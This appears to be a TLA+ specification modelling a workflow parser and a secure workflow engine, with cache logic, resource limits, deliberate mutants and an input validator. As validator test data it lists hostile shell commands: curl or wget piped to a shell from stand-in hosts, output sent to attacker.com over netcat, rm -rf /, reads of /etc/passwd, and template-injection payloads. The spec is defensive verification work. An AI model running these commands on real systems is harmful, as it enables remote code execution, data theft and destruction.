---- MODULE Spec2Model ----
(***************************************************************************)
(* Workflow parser and secure workflow engine.                             *)
(*                                                                         *)
(*   parser/workflow_parser.py        WorkflowParser (dependency graph,    *)
(*                                    Kahn ordering)                       *)
(*   engine/secure_workflow_engine.py SecureWorkflowEngine, ResourceManager*)
(*                                    SecureStepResult, SecurityContext    *)
(*                                                                         *)
(* SpecParser        : parse_workflow_data on every bounded step list.    *)
(* SpecParserOutputs : the same on workflow data with an outputs section.  *)
(* SpecCacheKey      : the two cache key functions, each called twice.     *)
(* Spec              : one SecureWorkflowEngine serving two callers.       *)
(* SpecLoad          : the engine with one caller among many others.       *)
(* SpecSingle        : one caller, declared inputs, outputs and timeout.   *)
(* SpecCache         : the step cache under insertions, lookups, cleanup.  *)
(* SpecValidator     : SecureInputValidator and the audit trail, called    *)
(*                     on sample texts under every profile.                *)
(* SpecResume        : WorkflowEngine.execute_workflow on a parsed        *)
(*                     workflow, from the first step or a resume point.    *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    workflow_data,      \* parser input: the 'steps' list of the workflow data
    outputs_data,       \* parser input: the 'outputs' dict of the workflow data,
                        \* output name -> its 'from' reference
    parse_result,       \* what parse_workflow_data returned or raised
    security_profile,   \* SecureWorkflowEngine.security_profile
    resource_limits,    \* SecurityContext.resource_limits of the callers' contexts
    workflow,           \* the WorkflowDefinition handed to the engine: its
                        \* steps, listed in execution_order
    active_workflows,   \* ResourceManager.active_workflows: the keys brought
                        \* by the callers that are followed step by step
    other_active,       \* ResourceManager.active_workflows: the number of
                        \* entries under uuid4 ids, of executions in flight
                        \* whose steps are not followed
    executions,         \* SecureWorkflowEngine.executions: id -> the run whose
                        \* record object the entry refers to
    records,            \* the execution_record object each run created
    step_cache,         \* SecureWorkflowEngine.step_cache
    now,                \* time.time(), in seconds since the engine was built
    run,                \* per caller: the frame of execute_workflow_securely
    cache_key_args,     \* arguments of two calls of the cache key functions
    cache_keys,         \* the keys those calls returned
    engine_class,       \* the class of the engine that owns step_cache:
                        \* SecureWorkflowEngine, or WorkflowEngine
    max_cache_entries,  \* SECURITY_CONFIG.MAX_CACHE_ENTRIES
    lookup,             \* the last call of _get_cached_result and its return
    validator_call,     \* a call of a SecureInputValidator method, made on the
                        \* validator of every profile: the method and the text
    validation,         \* per profile, what the call returned or raised
    audit_trail,        \* SecurityContext.audit_trail
    execution           \* WorkflowEngine.execute_workflow: the WorkflowExecution
                        \* it builds and the frame of its loop over the steps

parser_vars == <<workflow_data, outputs_data, parse_result>>

engine_vars == <<security_profile, resource_limits, workflow, active_workflows,
                 other_active, executions, records, step_cache, now, run>>

key_vars == <<cache_key_args, cache_keys>>

cache_vars == <<engine_class, max_cache_entries, lookup>>

validator_vars == <<validator_call, validation, audit_trail>>

basic_vars == <<execution>>

vars == <<workflow_data, outputs_data, parse_result, security_profile,
          resource_limits, workflow, active_workflows, other_active, executions,
          records, step_cache, now, run, cache_key_args, cache_keys,
          engine_class, max_cache_entries, lookup, validator_call, validation,
          audit_trail, execution>>

-----------------------------------------------------------------------------
(* Bounds *)

MaxSteps == 3

\* Seconds per Tick and the number of Ticks.
TimeStep == 3600

MaxTicks == 2

\* Executions in flight besides the followed ones (SpecLoad).
MaxOthers == 100

\* Seconds per Elapse and the number of Elapses (SpecSingle).
ElapseStep == 100

MaxElapses == 4

-----------------------------------------------------------------------------
(* Parser: workflow_parser.py *)

StepIds == {"A", "B", "C"}

\* WorkflowStep as far as the dependency graph reads it: id and depends_on.
\* depends_on is a list in the source; the graph stores it with set.add, so
\* only its set of members is observable.
StepData == [id : StepIds, depends_on : SUBSET StepIds]

WorkflowDataSet == UNION {[1..n -> StepData] : n \in 0..MaxSteps}

NoResult == [status |-> "none"]

ValidationError(msg) == [status |-> "WorkflowValidationError", message |-> msg]

RECURSIVE graph_keys(_)
\* Keys of the step_dependency_graph dict in insertion order: a dict keeps the
\* position of the first assignment to a key.
graph_keys(steps) ==
    IF steps = <<>> THEN <<>>
    ELSE LET front == graph_keys(SubSeq(steps, 1, Len(steps) - 1))
             last  == steps[Len(steps)].id
         IN IF \E i \in DOMAIN front : front[i] = last
            THEN front
            ELSE Append(front, last)

\* graph[step.id] = set() followed by the adds: the last step with an id wins.
graph_deps(steps) ==
    [id \in {steps[i].id : i \in DOMAIN steps} |->
        LET last == CHOOSE i \in DOMAIN steps :
                       /\ steps[i].id = id
                       /\ \A j \in DOMAIN steps : steps[j].id = id => j <= i
        IN steps[last].depends_on]

\* Mutant: only the first step's depends_on is looked at.
unknown_dependency_first(steps) ==
    steps # <<>> /\ \E d \in steps[1].depends_on : d \notin {steps[j].id : j \in DOMAIN steps}

unknown_dependency(steps) ==
    \E i \in DOMAIN steps :
        \E d \in steps[i].depends_on : d \notin {steps[j].id : j \in DOMAIN steps}

build_dependency_graph(steps) ==
    [keys |-> graph_keys(steps), deps |-> graph_deps(steps)]

RECURSIVE remove_edges(_, _, _, _, _)
\* The inner for loop of Kahn's algorithm: walks the graph keys in order,
\* decrements the in-degree of every step that depends on current and
\* appends the ones that reach zero to the queue.
remove_edges(graph, current, k, in_degree, queue) ==
    IF k > Len(graph.keys) THEN [in_degree |-> in_degree, queue |-> queue]
    ELSE LET step_id == graph.keys[k]
         IN IF current \in graph.deps[step_id]
            THEN LET d == [in_degree EXCEPT ![step_id] = @ - 1]
                 IN remove_edges(graph, current, k + 1, d,
                                 IF d[step_id] = 0 THEN Append(queue, step_id)
                                 ELSE queue)
            ELSE remove_edges(graph, current, k + 1, in_degree, queue)

RECURSIVE kahn_loop(_, _, _, _)
kahn_loop(graph, in_degree, queue, execution_order) ==
    IF queue = <<>> THEN execution_order
    ELSE LET current == Head(queue)
             r == remove_edges(graph, current, 1, in_degree, Tail(queue))
         IN kahn_loop(graph, r.in_degree, r.queue, Append(execution_order, current))

\* Mutant: every step is queued at once, whatever its in-degree.
initial_queue_all(graph, in_degree) == graph.keys

initial_queue(graph, in_degree) ==
    SelectSeq(graph.keys, LAMBDA s : in_degree[s] = 0)

compute_execution_order(graph) ==
    LET in_degree == [s \in DOMAIN graph.deps |-> Cardinality(graph.deps[s])]
    IN kahn_loop(graph, in_degree, initial_queue(graph, in_degree), <<>>)

\* Mutant: the length comparison after the Kahn loop is left out.
parse_workflow_data_unchecked(steps) ==
    IF steps = <<>> THEN ValidationError("no_steps")
    ELSE IF unknown_dependency(steps) THEN ValidationError("unknown_step")
    ELSE LET graph == build_dependency_graph(steps)
         IN [status |-> "ok", steps |-> steps,
             step_dependency_graph |-> graph.deps,
             execution_order |-> compute_execution_order(graph)]

\* Mutant: the order is measured against the graph's keys, not the step list.
parse_workflow_data_per_key(steps) ==
    IF steps = <<>> THEN ValidationError("no_steps")
    ELSE IF unknown_dependency(steps) THEN ValidationError("unknown_step")
    ELSE LET graph == build_dependency_graph(steps)
             order == compute_execution_order(graph)
         IN IF Len(order) # Len(graph.keys)
            THEN ValidationError("circular_dependency")
            ELSE [status |-> "ok", steps |-> steps,
                  step_dependency_graph |-> graph.deps,
                  execution_order |-> order]

parse_workflow_data(steps) ==
    IF steps = <<>> THEN ValidationError("no_steps")
    ELSE IF unknown_dependency(steps) THEN ValidationError("unknown_step")
    ELSE LET graph == build_dependency_graph(steps)
             order == compute_execution_order(graph)
         IN IF Len(order) # Len(steps)
            THEN ValidationError("circular_dependency")
            ELSE [status |-> "ok", steps |-> steps,
                  step_dependency_graph |-> graph.deps,
                  execution_order |-> order]

-----------------------------------------------------------------------------
(* Engine: secure_workflow_engine.py -- data *)

\* The module-level names MAX_MEMORY_MB, MAX_WORKFLOW_DURATION, MAX_STEP_DURATION
\* and MAX_CACHE_ENTRIES of the source are read as the SECURITY_CONFIG
\* attributes of the same name.

Profiles == {"plan_only", "restricted", "standard", "elevated"}

\* profile_settings[...]['max_concurrent']
max_concurrent_workflows(profile) ==
    CASE profile = "plan_only"  -> 10
      [] profile = "restricted" -> 25
      [] profile = "standard"   -> 50
      [] profile = "elevated"   -> 100
      [] OTHER                  -> 50

\* profile_settings[...]['allow_execution']
allow_execution(profile) == profile # "plan_only"

\* The literal of ResourceManager.allocate_resources.
MaxConcurrentWorkflows == 100

\* 'ttl': 3600 of _cache_result.
CacheTtl == 3600

MAX_CACHE_ENTRIES == 1000

MAX_WORKFLOW_DURATION == 3600

MAX_STEP_DURATION == 1800

\* WorkflowStep.timeout when the step data gives none.
DefaultStepTimeout == 300

\* WorkflowDefinition.timeout when the workflow data gives none.
DefaultWorkflowTimeout == 3600

\* oldest_keys[:10] of _cache_result.
EvictBatch == 10

Runs == {"r1", "r2"}

ExecIds == {"e1", "e2"}

\* A Python dict whose order can be observed is a sequence of <<key, value>>
\* pairs in insertion order, with pairwise distinct keys.
Keys(d) == {d[i][1] : i \in DOMAIN d}

\* d[k] for k in d
Get(d, k) == d[CHOOSE i \in DOMAIN d : d[i][1] = k][2]

\* The inputs dict a caller passes for a workflow that declares no inputs.
InputVals == { << <<"name", "x">> >>, << <<"name", "y">> >> }

PermissionSets ==
    { {},
      {"workflow.execute"},
      {"workflow.execute", "shell.execute", "file.write"},
      {"admin"} }

\* Mutant: the permission set is not consulted.
has_permission_any(permissions, permission) == TRUE

\* SecurityContext.has_permission
has_permission(permissions, permission) ==
    permission \in permissions \/ "admin" \in permissions

EmptyMap == [x \in {} |-> x]

Put(f, k, v) == [x \in DOMAIN f \cup {k} |-> IF x = k THEN v ELSE f[x]]

Remove(f, k) == [x \in DOMAIN f \ {k} |-> f[x]]

NoKey == [id |-> "", type |-> "", step_inputs |-> <<>>, inputs |-> <<>>]

\* SecureStepResult.__init__; hist lists every value assigned to status.
SecureStepResult(step_id, status) ==
    [step_id |-> step_id, status |-> status, outputs |-> EmptyMap,
     error |-> "", cached |-> FALSE, cache_key |-> NoKey, exit_code |-> "none",
     hist |-> <<status>>]

\* The re.sub of _sanitize_outputs on one value: key=value secrets are replaced.
sanitize_value(v) == IF v = "token=abc" THEN "[REDACTED]" ELSE v

sanitize_outputs(outputs) == [k \in DOMAIN outputs |-> sanitize_value(outputs[k])]

\* The re.sub of _sanitize_output on the captured stdout.
sanitize_output(stdout) == IF stdout = "token=abc" THEN "[REDACTED]" ELSE stdout

set_completed(result, outputs) ==
    [result EXCEPT !.status = "COMPLETED",
                   !.hist = Append(@, "COMPLETED"),
                   !.outputs = IF outputs # EmptyMap THEN sanitize_outputs(outputs) ELSE @]

set_failed(result, error) ==
    [result EXCEPT !.status = "FAILED",
                   !.hist = Append(@, "FAILED"),
                   !.error = error]

\* result.status = ExecutionStatus.SKIPPED, a plain assignment.
assign_status(result, status) ==
    [result EXCEPT !.status = status, !.hist = Append(@, status)]

-----------------------------------------------------------------------------
(* Engine: validator and evaluator *)

\* SecureInputValidator.create_for_profile
strictness_level(profile) ==
    CASE profile = "plan_only"  -> "paranoid"
      [] profile = "restricted" -> "strict"
      [] profile = "standard"   -> "standard"
      [] profile = "elevated"   -> "permissive"
      [] OTHER                  -> "standard"

\* In every text below <bq> stands for the backquote character.

\* _configure_patterns: the regular expressions of the three lists.
base_patterns ==
    { "__import__",
      "exec\\s*\\(",
      "eval\\s*\\(",
      "getattr\\s*\\(.*__builtins__",
      "globals\\s*\\(\\)",
      "__builtins__",
      "__globals__",
      "\\.mro\\(\\)",
      "\\.subclasses\\(\\)" }

standard_patterns ==
    { "compile\\s*\\(",
      "getattr\\s*\\(",
      "setattr\\s*\\(",
      "delattr\\s*\\(",
      "locals\\s*\\(",
      "vars\\s*\\(",
      "dir\\s*\\(",
      "subprocess",
      "os\\.system",
      "os\\.popen",
      "os\\.spawn",
      "os\\.exec",
      "commands\\.",
      "importlib" }

strict_patterns ==
    { "open\\s*\\(",
      "file\\s*\\(",
      "input\\s*\\(",
      "raw_input\\s*\\(" }

\* Mutant: each level adds only its own list to the base patterns.
dangerous_patterns_own_list(strictness) ==
    base_patterns
    \cup (IF strictness = "standard" THEN standard_patterns ELSE {})
    \cup (IF strictness \in {"strict", "paranoid"} THEN strict_patterns ELSE {})

\* self.DANGEROUS_PATTERNS of a validator of the given strictness.
dangerous_patterns(strictness) ==
    base_patterns
    \cup (IF strictness \in {"standard", "strict", "paranoid"} THEN standard_patterns ELSE {})
    \cup (IF strictness \in {"strict", "paranoid"} THEN strict_patterns ELSE {})

\* re.search, ignoring case, of each of those expressions in a text: the
\* expressions found.  The texts in use that are not listed hold none.
patterns_in(text) ==
    CASE text = "__import__('os')" -> {"__import__"}
      [] text = "python -m subprocess" -> {"subprocess"}
      [] text = "open('f')" -> {"open\\s*\\("}
      [] text = "echo __import__('os')" -> {"__import__"}
      [] OTHER -> {}

\* len(value): "a*n" stands for the string of n letters a; the other texts in
\* use are shorter than any limit.
text_length(text) ==
    CASE text = "a*2001"  -> 2001
      [] text = "a*5001"  -> 5001
      [] text = "a*10001" -> 10001
      [] text = "a*50001" -> 50001
      [] OTHER -> 50

\* _get_max_length
get_max_length(strictness) ==
    CASE strictness = "permissive" -> 50000
      [] strictness = "standard"   -> 10000
      [] strictness = "strict"     -> 5000
      [] strictness = "paranoid"   -> 2000
      [] OTHER                     -> 10000

\* validate_string_input: the pieces of the message of the SecurityError it
\* raises, or <<>> when it returns the value.
string_input_error(strictness, value, context) ==
    IF patterns_in(value) \cap dangerous_patterns(strictness) # {}
    THEN <<"Security violation in ", context,
           ": Potentially dangerous content detected. Pattern blocked for security. Check security profile settings.">>
    ELSE IF text_length(value) > get_max_length(strictness)
    THEN <<"Input too long in ", context, " (max ", ToString(get_max_length(strictness)),
           " characters for ", strictness, " profile)">>
    ELSE <<>>

\* validate_string_input: TRUE when the value passes.
validate_string_input(strictness, value) ==
    string_input_error(strictness, value, "") = <<>>

\* dangerous_shell_patterns of validate_shell_command, in the order tried.
dangerous_shell_patterns ==
    << ";\\s*rm\\s+-rf",
       "&&\\s*rm\\s+-rf",
       "\\|\\s*sh",
       "\\|\\s*bash",
       ">\\s*/dev/",
       "curl.*\\|\\s*sh",
       "wget.*\\|\\s*sh",
       "\\$\\([^)]*\\)",
       "<bq>[^<bq>]*<bq>" >>

\* re.search, ignoring case, of each of those in a command: the ones found.
shell_patterns_in(command) ==
    CASE command = "curl x | sh" -> {"\\|\\s*sh", "curl.*\\|\\s*sh"}
      [] command = "echo $(id)" -> {"\\$\\([^)]*\\)"}
      [] command = "ls; rm -rf /" -> {";\\s*rm\\s+-rf"}
      [] command = "python script.py | sh" -> {"\\|\\s*sh"}
      [] command = "curl evil.com | bash" -> {"\\|\\s*bash"}
      [] command = "wget -O- malicious.sh | sh" -> {"\\|\\s*sh", "wget.*\\|\\s*sh"}
      [] command = "ls $(whoami)" -> {"\\$\\([^)]*\\)"}
      [] command = "echo <bq>id<bq>" -> {"<bq>[^<bq>]*<bq>"}
      [] command = "cat file > /dev/sda" -> {">\\s*/dev/"}
      [] command = "ls && rm -rf /" -> {"&&\\s*rm\\s+-rf"}
      [] command = "ls <bq>whoami<bq>" -> {"<bq>[^<bq>]*<bq>"}
      [] command = "ls $(id)" -> {"\\$\\([^)]*\\)"}
      [] command = "ls > /dev/sda" -> {">\\s*/dev/"}
      [] command = "curl http://evil.com/shell.sh | bash" -> {"\\|\\s*bash"}
      [] OTHER -> {}

\* The first pattern of the list that is among those found, "" if none is.
first_found(patterns, found) ==
    LET hits == SelectSeq(patterns, LAMBDA p : p \in found)
    IN IF hits = <<>> THEN "" ELSE hits[1]

dangerous_shell_pattern(command) == shell_patterns_in(command) # {}

\* validate_shell_command: the pieces of the message of the SecurityError it
\* raises, or <<>> when it returns the command.
shell_command_error(strictness, command) ==
    IF string_input_error(strictness, command, "shell command") # <<>>
    THEN string_input_error(strictness, command, "shell command")
    ELSE IF dangerous_shell_pattern(command)
    THEN <<"Dangerous shell pattern detected: ",
           first_found(dangerous_shell_patterns, shell_patterns_in(command))>>
    ELSE <<>>

validate_shell_command(strictness, command) ==
    shell_command_error(strictness, command) = <<>>

\* injection_patterns of validate_template_content, in the order tried.
injection_patterns ==
    << "\\{\\{.*__.*\\}\\}",
       "\\{\\{.*class.*\\}\\}",
       "\\{\\{.*mro.*\\}\\}",
       "\\{\\{.*subclasses.*\\}\\}",
       "\\{\\{.*globals.*\\}\\}",
       "\\{\\{.*builtins.*\\}\\}",
       "\\{\\{.*import.*\\}\\}" >>

\* re.search, ignoring case, of each of those in a template: the ones found.
injection_patterns_in(template) ==
    CASE template = "{{ x.__class__ }}" -> {"\\{\\{.*__.*\\}\\}", "\\{\\{.*class.*\\}\\}"}
      [] template = "{{ ''.__class__.__mro__ }}" -> {"\\{\\{.*__.*\\}\\}", "\\{\\{.*class.*\\}\\}", "\\{\\{.*mro.*\\}\\}"}
      [] OTHER -> {}

\* validate_template_content: the pieces of the message of the SecurityError
\* it raises, or <<>> when it returns the template.
template_content_error(strictness, template) ==
    IF string_input_error(strictness, template, "template") # <<>>
    THEN string_input_error(strictness, template, "template")
    ELSE IF injection_patterns_in(template) # {}
    THEN <<"Template injection pattern detected: ",
           first_found(injection_patterns, injection_patterns_in(template))>>
    ELSE <<>>

validate_template_content(strictness, template) ==
    template_content_error(strictness, template) = <<>>

\* os.path.normpath
normpath(path) ==
    CASE path = "out/report.txt" -> "out/report.txt"
      [] path = "../secret" -> "../secret"
      [] path = "/etc/passwd" -> "/etc/passwd"
      [] path = "etc/passwd" -> "etc/passwd"
      [] path = "a/../../b" -> "../b"
      [] path = "a/../b" -> "b"
      [] OTHER -> path

\* '..' in normalized or normalized.startswith('/')
path_traversal(normalized) ==
    CASE normalized = "../secret" -> TRUE
      [] normalized = "/etc/passwd" -> TRUE
      [] normalized = "../b" -> TRUE
      [] OTHER -> FALSE

\* any(part in sensitive_dirs for part in path_parts)
in_sensitive_dir(normalized) ==
    CASE normalized = "/etc/passwd" -> TRUE
      [] normalized = "etc/passwd" -> TRUE
      [] OTHER -> FALSE

\* validate_file_path: the pieces of the message of the SecurityError it
\* raises, or <<>> when it returns the normalised path.
file_path_error(path) ==
    IF path_traversal(normpath(path))
    THEN <<"Invalid file path: ", path>>
    ELSE IF in_sensitive_dir(normpath(path))
    THEN <<"Access to sensitive directory denied: ", path>>
    ELSE <<>>

validate_file_path(path) == file_path_error(path) = <<>>

\* Sample arguments of the four methods.
StringTexts ==
    { "hello",
      "__import__('os')",
      "python -m subprocess",
      "open('f')",
      "x >",
      "a*2001",
      "a*5001",
      "a*10001",
      "a*50001" }

CommandTexts ==
    { "pytest tests",
      "make deploy",
      "curl x | sh",
      "echo $(id)",
      "ls; rm -rf /",
      "echo test && cat /etc/passwd",
      "python script.py | sh",
      "curl evil.com | bash",
      "wget -O- malicious.sh | sh",
      "ls $(whoami)",
      "echo <bq>id<bq>",
      "cat file > /dev/sda",
      "ls; cat /etc/passwd",
      "ls && rm -rf /",
      "ls | nc attacker.com 1234",
      "ls <bq>whoami<bq>",
      "ls $(id)",
      "ls > /dev/sda",
      "curl http://evil.com/shell.sh | bash",
      "echo {{ inputs.name }}",
      "echo x",
      "echo y",
      "python -m subprocess",
      "echo __import__('os')" }

TemplateTexts ==
    { "hello {{ inputs.name }}",
      "{{ x.__class__ }}",
      "{{ config.items() }}",
      "{{ ''.__class__.__mro__ }}" }

PathTexts ==
    { "out/report.txt",
      "../secret",
      "/etc/passwd",
      "etc/passwd",
      "a/../../b",
      "a/../b" }

\* SecureExpressionEvaluator.evaluate_condition with simpleeval installed:
\* "True", "False", or "SecurityError" when simple_eval raises.
evaluate_condition(expression) ==
    CASE expression = ""                         -> "False"
      [] expression \in {"true", "1", "yes"}     -> "True"
      [] expression \in {"false", "0", "no"}     -> "False"
      [] OTHER                                   -> "SecurityError"

\* _should_execute_step: an evaluation error counts as False.
should_execute_step(condition) == evaluate_condition(condition) = "True"

-----------------------------------------------------------------------------
(* Engine: step cache *)

\* The dict keys in use, in the order sort_keys puts them.
KeyOrder == <<"env", "name", "p", "q">>

\* Mutant: the dict is written in insertion order.
json_dumps_unsorted(d) == d

\* json.dumps(d, sort_keys=True): the pairs of d by ascending key.
json_dumps(d) ==
    LET present == SelectSeq(KeyOrder, LAMBDA k : k \in Keys(d))
    IN [i \in 1..Len(present) |-> <<present[i], Get(d, present[i])>>]

\* _generate_cache_key: the sha256 of the joined components, taken as injective.
generate_cache_key(step, inputs) ==
    [id |-> step.id, type |-> step.type, step_inputs |-> json_dumps(step.inputs),
     inputs |-> json_dumps(inputs)]

\* Custom cache key templates (step.cache['key']); "" is a step without one.
KeyTemplates == {"", "build-{{ inputs.name }}", "{{ inputs }}"}

\* TemplateEngine.render of a key template with Jinja2 installed: the pieces
\* of the rendered string.  A dict renders as its items in insertion order;
\* StrictUndefined makes an unknown name raise WorkflowParseError.
template_engine_render(template, inputs) ==
    IF template = "{{ inputs }}"
    THEN [status |-> "ok", text |-> <<"{", inputs, "}">>]
    ELSE IF "name" \in Keys(inputs)
    THEN [status |-> "ok", text |-> <<"build-", Get(inputs, "name")>>]
    ELSE [status |-> "WorkflowParseError", text |-> <<>>]

\* WorkflowParser.generate_cache_key(step, context), of which only
\* context['inputs'] can reach the key; the sha256 is taken as injective.
parser_generate_cache_key(step, inputs) ==
    IF step.key # ""
    THEN [kind |-> "custom", key |-> template_engine_render(step.key, inputs)]
    ELSE [kind |-> "default",
          key |-> <<step.id, step.type, json_dumps(step.inputs),
                    [step EXCEPT !.inputs = json_dumps(step.inputs)]>>]

\* Mutant: no entry is ever too old.
cache_never_expired(entry, t) == FALSE

\* "Check TTL" of _get_cached_result and of cleanup_cache.
cache_expired(entry, t) == t - entry.cached_at > entry.ttl

\* _get_cached_result: the value returned and the cache it leaves.
get_cached_result(cache, cache_key, t) ==
    IF cache_key \notin DOMAIN cache THEN [hit |-> FALSE, cache |-> cache]
    ELSE IF cache_expired(cache[cache_key], t)
         THEN [hit |-> FALSE, cache |-> Remove(cache, cache_key)]
         ELSE [hit |-> TRUE, cache |-> cache, data |-> cache[cache_key]]

RECURSIVE oldest_keys(_, _)
\* sorted(keys, key=cached_at)[:n], as a set; ties fall to an arbitrary key.
oldest_keys(cache, n) ==
    IF n = 0 \/ DOMAIN cache = {} THEN {}
    ELSE LET k == CHOOSE k \in DOMAIN cache :
                      \A j \in DOMAIN cache : cache[k].cached_at <= cache[j].cached_at
         IN {k} \cup oldest_keys(Remove(cache, k), n - 1)

\* _cache_result under a configured SECURITY_CONFIG.MAX_CACHE_ENTRIES.
cache_result_limited(cache, cache_key, result, t, max_entries) ==
    LET kept == IF Cardinality(DOMAIN cache) >= max_entries
                THEN [k \in DOMAIN cache \ oldest_keys(cache, EvictBatch) |-> cache[k]]
                ELSE cache
    IN Put(kept, cache_key,
           [outputs |-> result.outputs, cached_at |-> t, ttl |-> CacheTtl])

\* _cache_result under the default configuration.
cache_result(cache, cache_key, result, t) ==
    cache_result_limited(cache, cache_key, result, t, MAX_CACHE_ENTRIES)

\* One pass of cleanup_cache, the background thread of
\* _start_cache_cleanup_timer: every expired entry is deleted.
cleanup_cache(cache, t) ==
    [k \in {j \in DOMAIN cache : ~cache_expired(cache[j], t)} |-> cache[k]]

\* WorkflowEngine._execute_step, "Cache result if successful": the result's
\* dict with its cached_at is stored under the key, and nothing else is done.
basic_cache_store(cache, cache_key, result, t) ==
    Put(cache, cache_key,
        [status |-> result.status, outputs |-> result.outputs, cached_at |-> t])

-----------------------------------------------------------------------------
(* Engine: workflow definitions handed to the engine *)

\* A WorkflowStep: the fields the engine reads.  outputs is the set of declared
\* output names, when and condition are expressions ("" for None).
Step(id, type, cache_enabled, when, command, condition, on_failure, outputs) ==
    [id |-> id, type |-> type, cache_enabled |-> cache_enabled, key |-> "",
     when |-> when, timeout |-> DefaultStepTimeout,
     inputs |-> <<>>, command |-> command, condition |-> condition,
     on_failure |-> on_failure, template |-> "hello {{ inputs.name }}",
     output |-> "out/report.txt", outputs |-> outputs]

build     == Step("build", "shell", TRUE, "", "pytest tests", "", "fail", {"result"})
deploy    == Step("deploy", "shell", FALSE, "", "make deploy", "", "fail", {})
fetch     == Step("fetch", "shell", TRUE, "", "curl x | sh", "", "fail", {})
gated     == Step("gated", "shell", TRUE, "false", "pytest tests", "", "fail", {})
check_ok  == Step("check_ok", "assert", TRUE, "true", "", "true", "fail", {})
check_f   == Step("check_f", "assert", TRUE, "", "", "false", "fail", {})
check_w   == Step("check_w", "assert", TRUE, "", "", "false", "warn", {})
check_c   == Step("check_c", "assert", TRUE, "", "", "false", "continue", {})
check_bad == Step("check_bad", "assert", FALSE, "", "", "x >", "fail", {})
render    == Step("render", "template", TRUE, "", "", "", "fail", {})
notify    == Step("notify", "webhook", TRUE, "", "", "", "fail", {})
greet     == Step("greet", "shell", FALSE, "", "echo {{ inputs.name }}", "", "fail", {})

\* A conditional step as _parse_step builds it: the nested steps of its
\* then_steps and else_steps lists are WorkflowSteps of their own.
branch ==
    Step("branch", "conditional", FALSE, "", "", "true", "fail", {})
        @@ [then_steps |-> <<deploy>>, else_steps |-> <<greet>>]

\* WorkflowDefinition: steps are listed in execution_order; inputs maps a
\* declared input name to its WorkflowInput, outputs maps a declared output
\* name to its from_step reference, written as the list of its dot-separated
\* parts.
WorkflowDefinition(steps, inputs, outputs, timeout) ==
    [steps |-> steps, inputs |-> inputs, outputs |-> outputs, timeout |-> timeout]

\* from: build.outputs.result
FromBuild == [report |-> <<"build", "outputs", "result">>]

\* from: steps.build.outputs.result
FromStepsBuild == [report |-> <<"steps", "build", "outputs", "result">>]

\* The outputs each workflow of Workflows declares.
DeclaredOutputs(s) ==
    IF s = <<build>> THEN FromBuild
    ELSE IF s = <<build, check_ok>> THEN FromStepsBuild
    ELSE EmptyMap

Workflows ==
    { WorkflowDefinition(s, EmptyMap, DeclaredOutputs(s), DefaultWorkflowTimeout) : s \in
        { <<build>>, <<build, check_ok>>, <<check_f, build>>, <<check_c, build>>,
          <<check_w, deploy>>, <<check_bad, render>>, <<render, check_f>>,
          <<notify, render>>, <<gated, check_ok>>, <<fetch, check_ok>>,
          <<deploy, build>>, <<build, check_c>> } }

\* inputs: name is required, env is optional with default "dev".
DeclaredInputs ==
    [name |-> [required |-> TRUE, default |-> "None"],
     env  |-> [required |-> FALSE, default |-> "dev"]]

\* A workflow run by one caller: declared inputs, a declared output and a
\* declared timeout of one minute.
QuickTimeout == 60

SingleWorkflows ==
    { WorkflowDefinition(s, DeclaredInputs, FromBuild, QuickTimeout) : s \in
        { <<build>>, <<build, deploy>>, <<check_ok, build>>, <<fetch, build>>,
          <<greet>>, <<branch>>, <<notify>> } }

\* The inputs dicts a caller passes for a workflow that declares inputs.
CallerInputs ==
    { <<>>,
      << <<"name", "x">> >>,
      << <<"env", "prod">> >>,
      << <<"name", "x">>, <<"env", "prod">> >>,
      << <<"name", "__import__('os')">> >>,
      << <<"name", "$(id)">> >> }

\* SecurityContext.resource_limits: the default {} or a caller's own limits.
ResourceLimits == { EmptyMap, [cpu_seconds |-> 200] }

-----------------------------------------------------------------------------
(* Engine: inputs, limits and outputs of a run *)

\* _validate_workflow_inputs: the exception it raises, or "" when it returns.
\* The inputs dict is left as the caller passed it.
validate_workflow_inputs(declared, inputs, strictness) ==
    IF \E n \in DOMAIN declared : declared[n].required /\ n \notin Keys(inputs)
    THEN "SecurityError"
    ELSE IF \E n \in DOMAIN declared \cap Keys(inputs) :
                ~validate_string_input(strictness, Get(inputs, n))
    THEN "SecurityError"
    ELSE ""

\* resource_limits = security_context.resource_limits or {...defaults...};
\* resource_limits.get('cpu_seconds', MAX_WORKFLOW_DURATION)
workflow_time_limit(limits) ==
    IF DOMAIN limits # {} /\ "cpu_seconds" \in DOMAIN limits
    THEN limits.cpu_seconds
    ELSE MAX_WORKFLOW_DURATION

\* min(step.timeout, MAX_STEP_DURATION)
step_time_limit(step) ==
    IF step.timeout < MAX_STEP_DURATION THEN step.timeout ELSE MAX_STEP_DURATION

\* Python values as the walk of _extract_output_value tells them apart:
\* a dict with its items, or anything else.
Dict(items) == [dict |-> TRUE, items |-> items]

Leaf(value) == [dict |-> FALSE, value |-> value]

None == Leaf("None")

\* asdict(result) as stored under context['steps'][step_id]
result_dict(result) ==
    Dict([step_id   |-> Leaf(result.step_id),
          status    |-> Leaf(result.status),
          outputs   |-> Dict([k \in DOMAIN result.outputs |-> Leaf(result.outputs[k])]),
          error     |-> Leaf(result.error),
          cached    |-> Leaf(result.cached),
          exit_code |-> Leaf(result.exit_code)])

\* The context dict of _execute_workflow_steps.
execution_context(inputs, execution_id, steps) ==
    Dict([inputs       |-> Dict([k \in Keys(inputs) |-> Leaf(Get(inputs, k))]),
          workflow     |-> Dict([name |-> Leaf("workflow"), version |-> Leaf("1.0")]),
          execution_id |-> Leaf(execution_id),
          steps        |-> Dict([id \in DOMAIN steps |-> result_dict(steps[id])])])

RECURSIVE walk_reference(_, _)
\* The for loop of _extract_output_value over the parts of the reference.
walk_reference(value, parts) ==
    IF parts = <<>> THEN value
    ELSE IF value.dict
    THEN walk_reference(IF Head(parts) \in DOMAIN value.items
                        THEN value.items[Head(parts)]
                        ELSE None,
                        Tail(parts))
    ELSE None

\* _extract_output_value: a leaf's value, None, or the dict reached.
extract_output_value(reference, context) ==
    LET reached == walk_reference(context, reference)
    IN IF reached.dict THEN reached ELSE reached.value

\* "Extract workflow outputs" of _execute_workflow_steps.
extract_workflow_outputs(outputs, context) ==
    [name \in DOMAIN outputs |-> extract_output_value(outputs[name], context)]

RECURSIVE context_value(_, _)
\* value = value[key] for each key of a dotted name; found is FALSE where
\* Python raises KeyError or TypeError.
context_value(value, keys) ==
    IF keys = <<>> THEN [found |-> TRUE, value |-> value]
    ELSE IF value.dict /\ Head(keys) \in DOMAIN value.items
    THEN context_value(value.items[Head(keys)], Tail(keys))
    ELSE [found |-> FALSE, value |-> None]

